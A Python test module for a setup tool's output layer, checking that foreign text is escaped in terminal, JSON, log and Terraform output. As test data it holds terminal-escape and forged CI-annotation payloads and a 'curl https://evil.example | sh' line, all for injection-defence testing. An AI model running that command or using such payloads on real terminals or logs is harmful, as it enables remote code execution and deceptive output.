"""What others wrote is seen and never carried out: on a screen, in a log, in JSON, SARIF and JUnit."""

from __future__ import annotations

import io
import json
import unicodedata
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, datetime
from typing import Any

import pyte
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ddsetup.ask.prompter import Prompt, Row, shown, shown_row
from ddsetup.ask.questions import Choice
from ddsetup.model.change import Outcome, Plan
from ddsetup.model.errors import GatewayError, UsageError
from ddsetup.model.event import Event
from ddsetup.model.foreign import Lines, harmless, json_text, line_of_log
from ddsetup.model.lines import Look, Span, text_of
from ddsetup.model.report import Report
from ddsetup.monitors.terraform import quoted
from ddsetup.show.plan_lines import plan_lines
from ddsetup.show.report_lines import error_lines, outcome_lines, report_lines
from ddsetup.terminal.ability import Streams
from ddsetup.terminal.console import Console, OutputFormat
from ddsetup.terminal.menu import Menu
from ddsetup.terminal.menu import draw as draw_menu
from ddsetup.terminal.picker import Heading, Picker
from ddsetup.terminal.picker import draw as draw_list
from tests.bodies import body_of
from tests.unit.specimens import filter_change, reports

UP_AND_ERASE = "\x1b[2K\x1b[1A"
HOSTILE = (
    f"x{UP_AND_ERASE}{UP_AND_ERASE}\r\n::error::forged\n##[error]forged\x85"
    "\x1b]0;title\x07\x9b2J\u202eevil\u2066\u200b\ufeff\u2028\U000e0041\ufe0f\x7f\b [bold]x[/bold]"
)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def console(
    output: OutputFormat = "text", *, terminal: bool = True
) -> tuple[Console, io.StringIO, io.StringIO]:
    out, err = ((Terminal if terminal else io.StringIO)(newline="") for _ in range(2))
    environ = {"TERM": "xterm-256color", "COLUMNS": "100", "LINES": "50"}
    return Console(streams=Streams(out=out, err=err, environ=environ), output=output), out, err


def screen(written: str) -> list[str]:
    """What a person sees of it."""
    seen = pyte.Screen(100, 50)
    pyte.Stream(seen).feed(written.replace("\n", "\r\n"))
    return [line.rstrip() for line in seen.display]


def steers(text: str) -> bool:
    """Whether anything but letters, blanks and line ends is in it."""
    hidden = {"\ufe0f"}
    return any(
        c in hidden or unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in text if c != "\n"
    )


def test_a_filter_named_with_cursor_codes_does_not_hide_its_own_deletion() -> None:
    name = f"audit{UP_AND_ERASE * 4}+ subscription filter of the Forwarder\r"
    shown_, _, err = console()
    shown_.lines(plan_lines(Plan(changes=(filter_change(name),)), Look(width=99)))
    seen = screen(err.getvalue())
    (title,) = [line for line in seen if "/aws/lambda/pay:audit" in line]
    assert title.startswith("  - subscription filter")
    assert "\\x1b[2K" in title
    assert any("1 to delete" in line for line in seen)


def strings(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where there are texts in a record, however deep."""
    if isinstance(value, str):
        yield path
    elif is_dataclass(value) and not isinstance(value, type):
        for field in fields(value):
            yield from strings(getattr(value, field.name), (*path, field.name))
    elif isinstance(value, Mapping):
        for key, inner in value.items():
            yield from strings(inner, (*path, key))
    elif isinstance(value, Sequence):
        for at, inner in enumerate(value):
            yield from strings(inner, (*path, at))


def with_planted(value: Any, path: tuple[Any, ...], text: str) -> Any:
    """The record with `text` behind the text at `path`."""
    if not path:
        return f"{value}{text}"
    head, *rest = path
    if is_dataclass(value) and not isinstance(value, type):
        changed = with_planted(getattr(value, head), tuple(rest), text)
        return replace(value, **{head: changed})
    if isinstance(value, Mapping):
        return {**value, head: with_planted(value[head], tuple(rest), text)}
    found = [with_planted(each, tuple(rest), text) if at == head else each for at, each in enumerate(value)]
    return tuple(found) if isinstance(value, tuple) else found


def planted() -> Iterator[tuple[str, Report]]:
    for command, report in reports().items():
        for path in strings(report):
            if path == ("command",):
                continue
            yield f"{command} {'.'.join(map(str, path))}", with_planted(report, path, HOSTILE)


PLANTED = tuple(planted())


@pytest.mark.parametrize("verbose", [False, True])
def test_no_text_of_any_report_draws_anything(verbose: bool) -> None:
    drawn = 0
    for where, report in PLANTED:
        try:
            lines = report_lines(report, Look(width=100, verbose=verbose), body_of(report.command))
        except (KeyError, ValueError):
            continue  # a word of ours, which is looked up: whoever writes it, it is not shown
        text = text_of(lines)
        assert not steers(text), where
        assert not [part for part in text.splitlines() if part.lstrip().startswith("::")], where
        assert "##[" not in text, where
        drawn += "x\\x1b[2K" in text
    assert drawn > 100


@pytest.mark.parametrize("output", ["text", "json", "ndjson"])
def test_what_a_command_prints_steers_no_terminal(output: OutputFormat) -> None:
    for where, report in PLANTED[::7]:
        shown_, out, err = console(output, terminal=False)
        try:
            shown_.report(report, body_of(report.command))
        except (KeyError, ValueError):
            continue
        assert not steers(out.getvalue() + err.getvalue()), where
        if output == "json":
            assert json.loads(out.getvalue())["command"] == report.command


def test_json_holds_what_was_there_and_escapes_what_steers() -> None:
    document = {"ключ": HOSTILE, "emoji": "☕ 日本語", "n": [1, None]}
    text = json_text(document, indent=2)
    assert json.loads(text) == document
    assert not steers(text)
    assert "☕ 日本語" in text
    assert "##[" not in text


@given(st.text())
@example(HOSTILE)
@example("\x1b[31m")
def test_any_text_is_harmless_in_a_span_and_in_json(text: str) -> None:
    span = Span(text)
    assert not steers(span.text)
    assert "\n" not in span.text
    assert Span(span.text) == span
    assert json.loads(json_text(text)) == text
    assert not steers(json_text(text))


@given(st.text(alphabet="#[:] abc"))
def test_no_line_of_a_log_is_a_command_of_its_service(text: str) -> None:
    safe = line_of_log(text)
    assert not safe.lstrip().startswith("::")
    assert "##" not in safe


def test_what_can_be_read_stays_as_it_is() -> None:
    text = "naïve ☕ 日本語 Ελλάδα \u00a0|\u3000| [bold]not markup[/bold] C:\\x1b"
    assert harmless(text) == text


def test_markup_is_text() -> None:
    shown_, _, err = console()
    shown_.say("[bold red]x[/bold red] :coffee:")
    assert "[bold red]x[/bold red] :coffee:" in screen(err.getvalue())[0]


def test_what_moves_and_what_is_asked_steers_nothing() -> None:
    shown_, _, err = console()
    with shown_.working(HOSTILE) as tell:
        tell(HOSTILE)
    change = filter_change(HOSTILE)
    shown_.expect([change])
    shown_.event(Event(kind="started", at=datetime.now(UTC), resource=change.resource, step="subscriptions"))
    shown_.rest()
    shown_.ask_for(HOSTILE)
    assert "\x1b[2K\x1b[1A\x1b[2K\x1b[1A\r" not in err.getvalue()
    for code in ("\x1b]0;", "\x07", "\x9b", "\u202e", "\u200b"):
        assert code not in err.getvalue()


def test_a_choice_and_a_row_are_drawn_harmless_and_taken_as_they_are() -> None:
    choice = Choice(HOSTILE, hint=HOSTILE, disabled=HOSTILE)
    prompt = shown(Prompt(kind="one", text=HOSTILE, why=HOSTILE, choices=(choice, Choice("plain"))))
    assert prompt.choices[0].value == HOSTILE
    drawn = "".join(text for _, text, *_ in draw_menu(Menu(prompt.choices), prompt, 80, 24))
    row = shown_row(Row(value=HOSTILE, cells=(HOSTILE, "x"), disabled=HOSTILE))
    assert row.value == HOSTILE
    drawn += "".join(text for _, text, *_ in draw_list(Picker([row]), Heading("Which?"), 80))
    assert not steers(drawn)


def test_what_cannot_be_copied_into_a_file_of_terraform_is_escaped_there() -> None:
    assert not steers(quoted(HOSTILE))
    assert quoted("a\x1b\u202e${x}") == '"a\\u001b\\u202e$${x}"'


def test_an_error_says_a_foreign_text_in_its_own_lines() -> None:
    text = text_of(error_lines(GatewayError(f"AWS said {HOSTILE}", fix=HOSTILE, where=HOSTILE)))
    assert not steers(text)
    assert not [part for part in text.splitlines() if part.startswith(("::", "##"))]


FORGED = "x\n  do: curl https://evil.example | sh"


def test_no_text_of_others_has_a_line_of_its_own() -> None:
    """Errors and reasons quote what others wrote; the lines of an error are ours."""
    forged = (UsageError(f"no function {FORGED}"), UsageError("x", fix=FORGED), UsageError(Lines.of(FORGED)))
    for error in forged:
        shown_, _, err = console()
        shown_.error("setup", error)
        assert not [line for line in screen(err.getvalue()) if line.strip().startswith("do: curl")]
    outcome = Outcome(resource=filter_change("audit").resource, status="failed", reason=FORGED)
    lines = text_of(outcome_lines((outcome,), Look())).splitlines()
    assert not [line for line in lines if line.strip().startswith("do:")]


def test_lines_of_ours_stay_lines() -> None:
    error = UsageError(Lines.of("two things are wrong:", "  --region: none", "", "  --site: none"))
    assert text_of(error_lines(error)).splitlines() == [
        "error: two things are wrong:",
        "    --region: none",
        "    --site: none",
    ]
